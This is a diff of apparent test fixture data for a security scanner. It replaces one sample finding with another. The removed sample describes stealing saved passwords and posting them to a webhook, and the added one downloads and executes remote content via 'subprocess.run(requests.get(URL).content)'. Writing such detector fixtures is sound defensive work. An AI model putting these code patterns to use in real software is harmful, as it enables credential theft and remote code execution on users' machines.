@@ -54,16 +54,16 @@ _STORY = (
 _FINDINGS = json.dumps(
     [
         {
-            "issue_type": "reads_browser_passwords",
+            "issue_type": "downloads_and_executes",
             "severity": "critical",
             "scanner": "demo",
-            "description": "Collects saved passwords and posts them to a chat webhook",
+            "description": "Downloads a file and runs it",
             "file_path": "nodes/glow.py",
             "line_number": 42,
-            "code_snippet": "requests.post(HOOK, json=steal())",
+            "code_snippet": "subprocess.run(requests.get(URL).content)",
         },
         {
-            "issue_type": "runs_shell",
+            "issue_type": "python_command_injection_risk",
             "severity": "info",
             "file_path": "install.py",
             "line_number": 7,
